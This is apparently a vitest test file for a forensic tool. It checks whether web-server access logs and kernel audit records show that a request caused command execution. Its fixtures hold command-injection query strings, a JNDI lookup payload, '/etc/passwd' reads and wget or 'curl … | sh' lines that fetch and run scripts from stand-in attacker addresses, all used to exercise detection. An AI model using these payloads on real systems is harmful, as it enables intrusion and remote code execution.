import { expect, test } from 'vitest';
import { investigateFiles } from '../../test/scenario.ts';

const AT = Date.parse('2026-05-01T08:00:10Z') / 1000;
const ATTACKER = '203.0.113.9';
const FETCH = 'wget http://198.51.100.66/x.sh -O /tmp/x.sh';

/** What the kernel wrote of a program of the web server's, some seconds after the request. */
function ran(args: readonly string[], exe: string, after = 1): string {
  const id = `audit(${(AT + after).toFixed(3)}:${100 + Math.abs(after)})`;
  const hex = (word: string) =>
    /^[\w./:-]+$/.test(word) ? `"${word}"` : Buffer.from(word).toString('hex').toUpperCase();
  return [
    `type=SYSCALL msg=${id}: arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=90 pid=91 auid=4294967295 uid=990 gid=990 euid=990 tty=(none) ses=4294967295 comm="x" exe="${exe}" key="exec"`,
    `type=EXECVE msg=${id}: argc=${args.length} ${args.map((word, at) => `a${at}=${hex(word)}`).join(' ')}`,
    `type=PROCTITLE msg=${id}: proctitle="x"`,
  ].join('\n');
}

const request = (query: string, status = 200) =>
  `${ATTACKER} - - [01/May/2026:08:00:10 +0000] "GET /ping.php?host=${query} HTTP/1.1" ${status} 610 "-" "curl/8.5.0"\n`;

const SUBFOLDERS = { access: 'logs/nginx/access.log', audit: 'logs/audit/audit.log' };

async function told(query: string, audit: string, status = 200, headers = '') {
  const story = await investigateFiles({
    'logs/auth.log':
      'May  1 07:59:00 web1 CRON[9]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n',
    [SUBFOLDERS.access]:
      headers === '' ? request(query, status) : request(query, status).replace('"-" "curl/8.5.0"', headers),
    [SUBFOLDERS.audit]: `${audit}\n`,
  });
  const led = story.findings.filter(({ title }) => title === 'Command run by a web request');
  return { verdict: story.verdict, led: led.map(({ host }) => host), block: story.block };
}

const BREACHED = { verdict: 'breached', led: ['web1'], block: [ATTACKER] };
const query = encodeURIComponent(`127.0.0.1;${FETCH}`);

test('the server fetches what the request names', async () => {
  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget'))).toEqual(BREACHED);
});

test('the server fetches from whoever asked', async () => {
  const args = ['sh', '-c', `curl -s http://${ATTACKER}/a | sh`];
  expect(
    await told(encodeURIComponent('$'.concat('{jndi:ldap://198.51.100.66/a}')), ran(args, '/usr/bin/dash')),
  ).toEqual(BREACHED);
});

test('the server runs the very words of the request', async () => {
  expect(
    await told(encodeURIComponent('127.0.0.1;cat /etc/passwd'), ran(['cat', '/etc/passwd'], '/usr/bin/cat')),
  ).toEqual(BREACHED);
});

test('not what was long after, or refused', async () => {
  const late = await told(query, ran(FETCH.split(' '), '/usr/bin/wget', 300));
  expect(late).toMatchObject({ verdict: 'attacked', led: [] });
  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget'), 403)).toMatchObject({ led: [] });
});

test('not a program that was handed the words as one of its own', async () => {
  const quoted = ran(['ping', '-c', '3', `127.0.0.1;${FETCH}`], '/usr/bin/ping');
  expect(await told(query, quoted)).toMatchObject({ verdict: 'attacked', led: [] });
});

test('not who blocks, looks up or reports the attacker', async () => {
  const blocks = [
    ran(['iptables', '-I', 'INPUT', '-s', ATTACKER, '-j', 'DROP'], '/usr/sbin/iptables'),
    ran(['whois', ATTACKER], '/usr/bin/whois', 2),
    ran(['curl', '-s', 'https://api.example.com/report', '-d', `ip=${ATTACKER}`], '/usr/bin/curl', 3),
  ];
  expect(await told(query, blocks.join('\n'))).toMatchObject({ verdict: 'attacked', led: [] });
});

test('not what the server does anyway, nor what it fetches from itself', async () => {
  const habit = [ran(FETCH.split(' '), '/usr/bin/wget', -600), ran(FETCH.split(' '), '/usr/bin/wget', 2)];
  expect(await told(query, habit.join('\n'))).toMatchObject({ verdict: 'attacked', led: [] });
  const inside = 'wget http://127.0.0.1/x.sh -O /tmp/y.sh';
  const probe = encodeURIComponent('127.0.0.1;wget http://127.0.0.1/z.sh');
  expect(await told(probe, ran(inside.split(' '), '/usr/bin/wget'))).toMatchObject({ verdict: 'attacked', led: [] });
});

test('a server that breaks on what it was made to run, or waits for it until it gives up', async () => {
  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget'), 500)).toMatchObject(BREACHED);
  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget', -300), 504)).toMatchObject(BREACHED);
  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget', -300), 200)).toMatchObject({ led: [] });
});

test('words of the request within the words of a shell, but not quoted there', async () => {
  const short = encodeURIComponent('127.0.0.1;id');
  const shell = (line: string) => ran(['sh', '-c', line], '/usr/bin/dash');
  expect(await told(short, shell('ping -c 3 127.0.0.1;id'))).toMatchObject(BREACHED);
  expect(await told(short, shell("ping -c 3 '127.0.0.1;id'"))).toMatchObject({ verdict: 'attacked', led: [] });
});

test('an address without a scheme, an account before the host, letters of either case', async () => {
  const bare = encodeURIComponent('1;curl$'.concat('{IFS}198.51.100.66/x.sh'));
  expect(await told(bare, ran(['curl', '198.51.100.66/x.sh'], '/usr/bin/curl'))).toMatchObject(BREACHED);
  const account = encodeURIComponent('1;wget ftp://a:b@Files.Example.net/x.sh');
  expect(await told(account, ran(['wget', 'ftp://a:b@files.example.net/x.sh'], '/usr/bin/wget'))).toMatchObject(
    BREACHED,
  );
});

test('of a host that many use, the same thing', async () => {
  const probe = encodeURIComponent('1;wget https://raw.example.com/evil/x.sh');
  const own = ran(['wget', 'https://raw.example.com/shop/build.tgz'], '/usr/bin/wget');
  expect(await told(probe, own)).toMatchObject({ verdict: 'attacked', led: [] });
  const named = encodeURIComponent('1;wget http://example.com/a');
  expect(await told(named, ran(['wget', 'http://notexample.com/a'], '/usr/bin/wget'))).toMatchObject({ led: [] });
});

test('not where somebody says that he came from', async () => {
  const timer = ran(['curl', '-s', 'https://www.shop.example/health'], '/usr/bin/curl');
  const from = '"https://www.shop.example/health" "curl/8.5.0"';
  expect(await told(encodeURIComponent('1;cat /etc/passwd'), timer, 200, from)).toMatchObject({ led: [] });
});

test('not a page that fetches what it is asked to show; what it then runs is another thing', async () => {
  const url = encodeURIComponent('http://198.51.100.66/feed.txt?');
  expect(await told(url, ran(['curl', '-s', 'http://198.51.100.66/feed.txt'], '/usr/bin/curl'))).toMatchObject({
    led: [],
  });
  const runs = ran(['sh', '-c', 'curl -s http://198.51.100.66/feed.txt | sh'], '/usr/bin/dash');
  expect(await told(url, runs)).toMatchObject(BREACHED);
});

test('a round that the log begins in the middle of is a habit; a loader that comes again is none', async () => {
  const cat = ['cat', '/etc/passwd'];
  const probe = encodeURIComponent('1;cat /etc/passwd');
  const rounds = [1, 601, 1201, 1801].map((after) => ran(cat, '/usr/bin/cat', after)).join('\n');
  expect(await told(probe, rounds)).toMatchObject({ verdict: 'attacked', led: [] });
  const before = ran(['true', 'x'], '/usr/bin/true', -7200);
  expect(await told(probe, `${before}\n${rounds}`)).toMatchObject(BREACHED);
});

test('commands beside it, be they thousands, hide none', async () => {
  const others = Array.from({ length: 1500 }, (_, at) => ran(['stat', `/srv/f${at}`], '/usr/bin/stat', -50 + at / 15));
  expect(await told(query, [...others, ran(FETCH.split(' '), '/usr/bin/wget', 20)].join('\n'))).toMatchObject(BREACHED);
});

test('who was blocked and looked up before may get in later', async () => {
  const before = [
    ran(['iptables', '-I', 'INPUT', '-s', ATTACKER, '-j', 'DROP'], '/usr/sbin/iptables', -4000),
    ran(['whois', ATTACKER], '/usr/bin/whois', -3900),
  ];
  const fetches = ran(['sh', '-c', `curl -s ${ATTACKER}/a | sh`], '/usr/bin/dash');
  const probe = encodeURIComponent('1;cat /etc/passwd');
  expect(await told(probe, [...before, fetches].join('\n'))).toMatchObject(BREACHED);
});

test('not a page for looking networks up, used by a link; without one, it is', async () => {
  const lookup = 'ping -c 3 198.51.100.1';
  const audit = ran(lookup.split(' '), '/usr/bin/ping');
  const linked = '"https://fw.example/admin/diag.php" "Mozilla/5.0"';
  expect((await told(encodeURIComponent(lookup), audit, 200, linked)).led).toEqual([]);
  expect((await told(encodeURIComponent(lookup), audit)).led).toEqual(['web1']);
});
